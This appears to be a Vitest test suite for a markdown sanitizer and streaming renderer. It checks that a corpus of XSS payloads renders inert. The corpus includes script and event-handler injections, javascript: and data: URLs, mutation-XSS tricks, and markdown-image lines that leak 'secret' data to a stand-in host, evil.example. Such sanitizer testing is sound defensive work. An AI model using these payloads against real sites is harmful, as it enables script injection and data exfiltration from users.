import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../src/lib/markdown/render';
import { StreamingMarkdown } from '../src/lib/markdown/stream';

function dom(html: string): HTMLElement {
  const d = document.createElement('div');
  d.innerHTML = html;
  return d;
}

/** Assert nothing executable survived. */
function assertInert(html: string): HTMLElement {
  const d = dom(html);
  expect(d.querySelector('script, iframe, object, embed, style, form, img, base, meta, link, foreignObject')).toBeNull();
  for (const el of Array.from(d.querySelectorAll('*'))) {
    for (const a of Array.from(el.attributes)) {
      expect(a.name.toLowerCase().startsWith('on'), `${el.tagName} has ${a.name}`).toBe(false);
      expect(/^\s*(javascript|vbscript|data):/i.test(a.value) && a.name !== 'data-alt', `${a.name}=${a.value}`).toBe(false);
    }
  }
  for (const a of Array.from(d.querySelectorAll('a'))) {
    expect(a.getAttribute('href')).toMatch(/^(https?:|mailto:)/);
    expect(a.getAttribute('target')).toBe('_blank');
    expect(a.getAttribute('rel')).toBe('noopener noreferrer');
  }
  return d;
}

const CORPUS: string[] = [
  '<script>alert(1)</script>',
  'hello <script>alert(1)</script> world',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1)">',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java\nscript:alert(1))',
  '[click](  javascript:alert(1))',
  '<a href="javascript:alert(1)">x</a>',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)><circle r=5 /></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '![x" onerror=alert(1)](y)',
  '![x" onerror="alert(1)](https://evil.example/a.png?q=secret)',
  '![a](https://evil.example/leak?data=SECRET)',
  '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
  '<div style="position:fixed;inset:0">overlay</div>',
  '<iframe src="https://evil.example"></iframe>',
  '<form action="https://evil.example"><button>go</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="https://ok.example" onclick="alert(1)">ok</a>',
  '<<script>script>alert(1)<</script>/script>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '`<img src=x onerror=alert(1)>`',
  '<p title="</p><img src=x onerror=alert(1)>">',
  '[a](https://example.com "title\\" onmouseover=\\"alert(1)")',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '$\\href{javascript:alert(1)}{x}$',
  '$$\\htmlStyle{color:red}{x}$$',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '<sc',
  '<img src=x on',
  '[unfinished](javascri',
  '```js\nconst a = "<script>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

describe('markdown sanitizer XSS corpus', () => {
  for (const input of CORPUS) {
    it(`is inert: ${JSON.stringify(input).slice(0, 60)}`, () => {
      assertInert(renderMarkdown(input));
    });
    it(`is inert when streamed char by char: ${JSON.stringify(input).slice(0, 50)}`, () => {
      const s = new StreamingMarkdown();
      for (const ch of input) {
        s.append(ch);
        const { blocks, tail } = s.flush();
        assertInert(blocks.map((b) => b.html).join('') + tail);
      }
    });
  }

  it('turns images into click-to-load placeholders naming the host', () => {
    const d = assertInert(renderMarkdown('![chart](https://img.example.com/c.png?x=1)'));
    const btn = d.querySelector('button.img-load');
    expect(btn).not.toBeNull();
    expect(btn!.textContent).toBe('Load image from img.example.com');
    expect(btn!.getAttribute('data-src')).toBe('https://img.example.com/c.png?x=1');
  });

  it('does not make a fetchable image from the onerror trick', () => {
    const d = assertInert(renderMarkdown('![x" onerror=alert(1)](y)'));
    expect(d.querySelector('img')).toBeNull();
  });

  it('shows raw HTML as text', () => {
    const d = assertInert(renderMarkdown('<b>bold?</b>'));
    expect(d.querySelector('b')).toBeNull();
    expect(d.textContent).toContain('<b>bold?</b>');
  });

  it('keeps HTML inside code fences as text', () => {
    const d = assertInert(renderMarkdown('```html\n<script>alert(1)</script>\n```'));
    expect(d.querySelector('code')!.textContent).toContain('<script>alert(1)</script>');
  });

  it('renders safe links with target and rel', () => {
    const d = assertInert(renderMarkdown('see [docs](https://example.com/x) and <https://a.example>'));
    expect(d.querySelectorAll('a')).toHaveLength(2);
  });

  it('renders GFM tables and task lists', () => {
    const d = assertInert(renderMarkdown('| a | b |\n|:-|-:|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo'));
    expect(d.querySelectorAll('table td')).toHaveLength(2);
    expect(d.querySelectorAll('input[type=checkbox]').length).toBe(2);
  });

  it('highlights fenced code and adds a copy button', () => {
    const d = assertInert(renderMarkdown('```python\ndef f(x):\n    return x\n```'));
    expect(d.querySelector('.hljs-keyword')).not.toBeNull();
    expect(d.querySelector('button.copy-code')).not.toBeNull();
    expect(d.querySelector('.code-lang')!.textContent).toBe('python');
  });

  it('does not treat currency as math', () => {
    const d = dom(renderMarkdown('It costs $5 and $10 today.'));
    expect(d.querySelector('.math-pending, .katex')).toBeNull();
  });
});
